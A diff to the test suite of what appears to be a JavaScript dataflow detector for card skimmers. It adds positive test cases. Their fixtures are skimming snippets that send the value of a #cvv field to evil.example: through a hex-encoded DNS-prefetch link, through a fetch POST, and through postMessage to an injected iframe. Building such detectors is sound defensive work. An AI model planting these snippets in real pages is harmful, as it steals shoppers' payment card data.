@@ -56,6 +56,12 @@ const positives: [string, string, string, string, string | null, boolean][] = [
   ['postMessage into a frame the script created and pointed at a host',
     `function frame() { var f = document.createElement("iframe"); f.setAttribute("src", "https://evil.example/bridge.html"); document.body.appendChild(f); return f; } frame().contentWindow.postMessage(document.getElementById("cvv").value, "*");`,
     'value of #cvv', 'postMessage', 'evil.example', false],
+  ['a lookup table indexed by the data re-spells it (hex labels); a host built from the data is no destination',
+    `var A = "0123456789abcdef"; function hex(s) { var o = ""; for (const b of new TextEncoder().encode(s)) o += A[b >> 4] + A[b & 15]; return o; } var l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "https://" + hex(document.getElementById("cvv").value) + ".evil.example/"; document.head.appendChild(l);`,
+    'value of #cvv', 'link.href', null, false],
+  ['a shorthand property in a cut-off file (the tolerant parser makes key and value one node)',
+    `function post(text) { fetch("https://evil.example/m", {method: "POST", body: JSON.stringify({ text })}); } post(document.getElementById("cvv").value); var cut = (`,
+    'value of #cvv', 'fetch', 'evil.example', false],
 ];
 
 describe('dataflow: proven flows', () => {
